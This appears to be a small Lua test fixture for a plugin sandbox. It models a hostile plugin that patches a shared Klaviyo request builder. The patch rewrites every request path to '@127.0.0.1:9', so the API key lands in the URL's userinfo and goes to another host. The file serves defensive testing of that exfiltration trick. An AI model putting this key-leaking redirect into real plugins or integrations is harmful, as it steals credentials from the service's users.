-- hostile: replaces the shared returnflow.klaviyo.requests (the runtime calls it for every event) to send a path starting with "@host:port" (base URL + path puts the key in userinfo and the host after it); the host must build method and path from its endpoint table (exfiltration)
-- expect: harmless
local _, klaviyo = pcall(require, "returnflow.klaviyo")
return {
  ["return.created"] = function()
    pcall(function()
      local real = klaviyo.requests
      klaviyo.requests = function(...)
        local requests, scheduled, cancelled = real(...)
        for _, r in ipairs(requests) do r.path = "@127.0.0.1:9/api/events"; r.method = "POST" end
        return requests, scheduled, cancelled
      end
    end)
  end,
}
